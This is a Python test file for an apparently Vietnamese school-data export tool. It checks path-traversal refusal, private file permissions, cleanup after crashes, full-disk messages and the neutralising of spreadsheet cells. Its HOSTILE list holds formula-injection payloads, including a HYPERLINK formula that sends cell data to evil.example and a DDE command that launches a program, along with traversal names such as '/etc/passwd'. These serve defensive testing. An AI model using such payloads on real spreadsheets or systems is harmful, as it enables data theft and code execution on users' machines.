"""What an export may never do: leave its folder, be readable by others, leave personal data
behind after a crash, write a cell a spreadsheet runs, print a traceback on a full disk."""

from __future__ import annotations

import csv
import errno
import os
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

import openpyxl
import pytest
from sqlmodel import select

from hoctap.models.errors import HoctapError
from hoctap.models.export import export_roster
from hoctap.models.files import MAX_NAME_BYTES, inside, safe_name, scratch, scratch_base
from hoctap.models.report import write_report
from hoctap.models.tables import UnitEntryValue
from hoctap.tui.cli import main

ROOT = Path(__file__).resolve().parent.parent
UNIT = ["--unit", "THCS-LQD", "--year", "2024"]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "'kept quote"]


@pytest.fixture
def umask022():
    old = os.umask(0o022)
    yield
    os.umask(old)


def listing(folder: Path) -> list[str]:
    """Everything under ``folder``, hidden files included."""
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


# ---- 1. names made from data -------------------------------------------------------------------

@pytest.mark.parametrize("code, expected", [
    ("../../../../ESCAPED", "ESCAPED"), ("THCS/LQD", "THCS-LQD"), ("..", "hoctap"), ("", "hoctap"),
    ("a\\b:c*d?e", "a-b-c-d-e"), (".hidden", "hidden"), ("-rf", "rf"), ("x\x00y\x1b[31m\u202e", "xy[31m"),
    ("Trường THCS Lê Quý Đôn", "Trường THCS Lê Quý Đôn"), ("Tru\u031bo\u031b\u0300ng", "Trường"),  # NFC
    ("a..b...c", "a.b.c"), ("tab\there\nline", "tab here line"),
])
def test_safe_name(code, expected):
    assert safe_name(code) == expected
    assert safe_name(code, ".xlsx") == expected + ".xlsx"


def test_safe_name_is_capped_on_a_character_boundary():
    name = safe_name("Đ" * 500, ".csv")
    assert len(name.removesuffix(".csv").encode("utf-8")) <= MAX_NAME_BYTES and set(name[:-4]) == {"Đ"}


@pytest.mark.parametrize("name", ["../x.csv", "/etc/passwd", "a/b.csv", "..", "", "."])
def test_inside_refuses_a_path_out_of_the_folder(tmp_path, name):
    with pytest.raises(HoctapError):
        inside(tmp_path, name)
    assert inside(tmp_path, "ok.csv") == tmp_path / "ok.csv"


@pytest.mark.parametrize("code", ["../../../../ESCAPED", "THCS/LQD"])
async def test_tui_export_stays_in_the_downloads_folder(db, catalogs, demo, tmp_path, code):
    from hoctap.screens.dashboard import DashboardScreen
    from tests.tui_helpers import SIZE, make_app, settle

    downloads = tmp_path / "a" / "b" / "c" / "d" / "Downloads"
    downloads.mkdir(parents=True)
    app = make_app(db, catalogs, demo)
    app.download_dir = downloads
    async with app.run_test(size=SIZE) as pilot:
        await settle(app, pilot)
        app.ctx.unit.code = code  # as a bundle from another office may carry it
        await pilot.press("X", "ctrl+s")
        await settle(app, pilot)
        assert isinstance(app.screen, DashboardScreen)
    expected = safe_name(code) + "-2024-danh-sach-vi.xlsx"
    assert listing(tmp_path / "a") == ["b", "b/c", "b/c/d", "b/c/d/Downloads", f"b/c/d/Downloads/{expected}"]


# ---- 2. who can read an export, what a crash leaves ---------------------------------------------

@pytest.mark.parametrize("command, name", [(["export"], "r.xlsx"), (["roster", "export"], "r.csv"),
                                           (["roster", "export"], "r.xlsx"), (["bundle", "export"], "r.toml")])
def test_exports_are_private_whatever_the_umask(tmp_path, db_url, demo, umask022, command, name):
    out = tmp_path / "out"
    out.mkdir()
    assert main(["--db", db_url, *command, str(out / name), *UNIT]) == 0
    assert stat.S_IMODE((out / name).stat().st_mode) == 0o600
    assert listing(out) == [name]


def test_exports_in_a_setgid_folder_are_for_the_group(tmp_path, db_url, demo, umask022):
    out = tmp_path / "shared"
    out.mkdir()
    os.chmod(out, 0o2770)
    assert main(["--db", db_url, "roster", "export", str(out / "r.csv"), *UNIT]) == 0
    st = (out / "r.csv").stat()
    assert stat.S_IMODE(st.st_mode) == 0o660 and st.st_gid == out.stat().st_gid


def test_export_mode_from_the_config(tmp_path, db_url, demo, umask022):
    config = Path(os.environ["HOCTAP_CONFIG"])
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text('export_mode = "0640"\n', encoding="utf-8")
    try:
        assert main(["--db", db_url, "roster", "export", str(tmp_path / "r.csv"), *UNIT]) == 0
    finally:
        from hoctap.models.files import set_export_mode

        set_export_mode(None)
    assert stat.S_IMODE((tmp_path / "r.csv").stat().st_mode) == 0o640


def test_a_bad_export_mode_is_a_config_error(tmp_path, capsys):
    config = Path(os.environ["HOCTAP_CONFIG"])
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text('export_mode = "0044"\n', encoding="utf-8")
    assert main(["--lang", "en", "unit", "list"]) == 2
    err = capsys.readouterr().err
    assert "config.toml: export_mode: must be an octal mode" in err and "Traceback" not in err


def test_the_scratch_folder_is_private_and_holds_xlsxwriter_files(tmp_path, db, catalogs, demo, monkeypatch, umask022):
    import tempfile

    seen = []
    real = tempfile.mkstemp

    def spy(*args, **kwargs):
        d = Path(kwargs["dir"])
        seen.append((d, stat.S_IMODE(d.parent.stat().st_mode), stat.S_IMODE(d.stat().st_mode)))
        return real(*args, **kwargs)

    monkeypatch.setattr(tempfile, "mkstemp", spy)
    (tmp_path / "out").mkdir()
    write_report(db, catalogs, demo, None, tmp_path / "out" / "r.xlsx")
    out = tmp_path / "out"
    assert seen and all(d.parent == scratch_base(out) and (a, b) == (0o700, 0o700) for d, a, b in seen)
    assert listing(out) == ["r.xlsx"]


@pytest.mark.parametrize("name", ["r.csv", "r.xlsx"])
def test_an_exception_mid_export_leaves_nothing(tmp_path, db, catalogs, demo, name):
    (tmp_path / "out").mkdir()
    path = tmp_path / "out" / name
    path.write_bytes(b"old")

    def stop(done, total):
        if done > 100:
            raise RuntimeError("stop")

    with pytest.raises(RuntimeError):
        export_roster(db, catalogs, demo, path, progress=stop)
    assert listing(path.parent) == [name] and path.read_bytes() == b"old"


KILLED = """
import os, signal, sys
import hoctap.models.export as export
from hoctap.tui.cli import main

real = export.iter_people

def dying(*args, **kwargs):
    for n, item in enumerate(real(*args, **kwargs)):
        if n == 500:
            os.kill(os.getpid(), signal.SIGKILL)  # as the OOM killer or a power cut would
        yield item

export.iter_people = dying
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.parametrize("name", ["r.csv", "r.xlsx"])
def test_the_next_export_removes_what_a_killed_one_left(tmp_path, db_url, demo, umask022, name):
    out = tmp_path / "out"
    out.mkdir()
    args = ["--db", db_url, "roster", "export", str(out / name), *UNIT]
    proc = subprocess.run([sys.executable, "-c", KILLED, *args], cwd=ROOT.parent, capture_output=True, text=True,
                          timeout=120)
    assert proc.returncode == -9, proc.stderr
    base = scratch_base(out)
    left = [p for p in base.rglob("*") if p.is_file()]
    assert left and stat.S_IMODE(base.stat().st_mode) == 0o700  # what was left is private
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in left)
    assert main(["--db", db_url, "roster", "export", str(out / "other.csv"), *UNIT]) == 0
    assert listing(out) == ["other.csv"]


def test_a_running_export_is_not_cleaned_by_another(tmp_path):
    with scratch(tmp_path / "base") as first, scratch(tmp_path / "base") as second:
        (first / "data").write_text("x")
        assert first.exists() and second.exists() and first != second
    assert not (tmp_path / "base").exists()


def test_a_scratch_folder_someone_else_planted_is_refused(tmp_path, db, catalogs, demo):
    (tmp_path / "elsewhere").mkdir()
    scratch_base(tmp_path).symlink_to(tmp_path / "elsewhere")
    with pytest.raises(HoctapError, match="thư mục riêng"):
        export_roster(db, catalogs, demo, tmp_path / "r.csv")
    assert listing(tmp_path / "elsewhere") == []


# ---- 3. cells a spreadsheet would run ---------------------------------------------------------

def test_csv_cells_are_neutralised_and_read_back_exactly(tmp_path, db_url, demo):
    first = tmp_path / "first.csv"
    assert main(["--db", db_url, "roster", "export", str(first), *UNIT]) == 0
    with first.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    wanted = {rows[i + 1][0]: value for i, value in enumerate(HOSTILE)}
    for i, value in enumerate(HOSTILE):
        # a file made by hand follows the same rule: a real leading quote is written twice
        rows[i + 1][1] = "'" + value if value.startswith("'") else value
    with first.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows(rows)
    assert main(["--db", db_url, "import", str(first), *UNIT]) == 0

    second, third = tmp_path / "second.csv", tmp_path / "third.csv"
    assert main(["--db", db_url, "roster", "export", str(second), *UNIT]) == 0
    with second.open(encoding="utf-8-sig", newline="") as f:
        written = {r[0]: r[1] for r in csv.reader(f)}
    for code, value in wanted.items():
        assert written[code] == "'" + value  # shown as text by Excel and LibreOffice
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in written.values() for v in [r])

    assert main(["--db", db_url, "import", str(second), *UNIT]) == 0
    assert main(["--db", db_url, "roster", "export", str(third), *UNIT]) == 0
    assert third.read_bytes() == second.read_bytes()  # lossless: the quote added is the quote removed

    book = tmp_path / "r.xlsx"
    assert main(["--db", db_url, "roster", "export", str(book), *UNIT]) == 0
    ws = openpyxl.load_workbook(book).worksheets[0]
    names = {r[0].value: r[1] for r in ws.iter_rows(min_row=2)}
    for code, value in wanted.items():
        assert names[code].value == value and names[code].data_type == "s"


def test_the_summary_title_from_the_unit_name_is_quote_prefixed(tmp_path, db, catalogs, demo):
    demo.unit.name = HOSTILE[0]
    write_report(db, catalogs, demo, None, tmp_path / "r.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "r.xlsx").worksheets[0]["A1"]
    assert cell.value == HOSTILE[0].upper() and cell.quotePrefix and cell.data_type == "s"


# ---- 4. a full disk ------------------------------------------------------------------------

FULL_DISK = """
import errno, os, sys, zipfile
from hoctap.tui.cli import main

def full(*args, **kwargs):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

if sys.argv[1] == "zip":
    zipfile._ZipWriteFile.write = full   # XlsxWriter packs the workbook
else:
    os.fsync = full                      # where NFS and quotas report it
sys.exit(main(sys.argv[2:]))
"""


@pytest.mark.parametrize("where, name", [("zip", "r.xlsx"), ("fsync", "r.csv"), ("fsync", "r.xlsx")])
def test_a_full_disk_prints_the_message_only(tmp_path, db_url, demo, where, name):
    out = tmp_path / "out"
    out.mkdir()
    for command in (["export"], ["roster", "export"]) if name.endswith("xlsx") else (["roster", "export"],):
        proc = subprocess.run([sys.executable, "-c", FULL_DISK, where, "--lang", "en", "--db", db_url, *command,
                               str(out / name), *UNIT], cwd=ROOT.parent, capture_output=True, text=True, timeout=120)
        assert proc.returncode == 2
        assert proc.stderr.strip() == (f"hoctap: could not write {out / name}: the disk is full (No space left on "
                                       "device) (the old file, if any, is untouched)")
        assert listing(out) == []


def test_a_failed_write_names_the_target_in_the_users_language(tmp_path, db_url, demo, monkeypatch, capsys):
    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    out = tmp_path / "out"
    out.mkdir()
    assert main(["--lang", "vi", "--db", db_url, "roster", "export", str(out / "r.csv"), *UNIT]) == 2
    err = capsys.readouterr().err
    assert f"không ghi được {out / 'r.csv'}: ổ đĩa đã đầy" in err and ".part" not in err
    assert listing(out) == []


# ---- 6. messages that name what the user asked for ------------------------------------------

@pytest.mark.parametrize("command", [["export"], ["roster", "export"], ["bundle", "export"]])
def test_exporting_onto_a_folder_names_it(tmp_path, db_url, demo, capsys, command):
    target = tmp_path / "out" / {"export": "r.xlsx", "roster": "r.csv", "bundle": "r.toml"}[command[0]]
    target.mkdir(parents=True)
    assert main(["--lang", "en", "--db", db_url, *command, str(target), *UNIT]) == 2
    err = capsys.readouterr().err
    assert f"{target} is a folder" in err and ".part" not in err and "Traceback" not in err
    assert listing(target.parent) == [target.name]


def test_documents_that_start_with_a_dash(db_url, db, demo, capsys):
    assert main(["--db", db_url, "check", *UNIT, "C1.1=có", "--documents", "-2+3", "--evidence", "-"]) == 0
    assert main(["--db", db_url, "check", *UNIT, "C1.2=có", "--documents=--draft"]) == 0
    with db.read() as s:
        stored = {v.entry_id: (v.documents, v.evidence) for v in s.exec(select(UnitEntryValue))}
    assert stored["C1.1"] == ("-2+3", "-") and stored["C1.2"][0] == "--draft"


def test_a_value_taken_for_an_option_suggests_the_equals_form(db_url, demo, capsys):
    assert main(["--lang", "en", "--db", db_url, "check", *UNIT, "C1.1=có", "--documents", "--draft"]) == 2
    assert "--documents=--value" in capsys.readouterr().err


@pytest.mark.parametrize("text, vi, en", [
    ('export_mode = "0777"\n', "người khác không được gì", "others get nothing"),
    ('export_mode = "0604"\n', "người khác không được gì", "others get nothing"),
    ("lang = 5\n", "lang: phải là một chuỗi văn bản", "lang: must be a quoted string"),
    ("db = \n", "không phải TOML hợp lệ (dòng 1, cột 6)", "not valid TOML (line 1, column 6)"),
    ("colour = 'x'\n", "khoá không có: colour", "unknown key colour"),
    ("catalog_dirs = ['a',", "lỗi ở cuối tệp", "at the end of the file"),
])
def test_a_broken_config_is_named_in_the_users_language(text, vi, en, capsys):
    config = Path(os.environ["HOCTAP_CONFIG"])
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(text, encoding="utf-8")
    for lang, words in (("vi", vi), ("en", en)):
        assert main(["--lang", lang, "unit", "list"]) == 2
        err = capsys.readouterr().err
        assert "config.toml: " in err and words in err and "Traceback" not in err, err
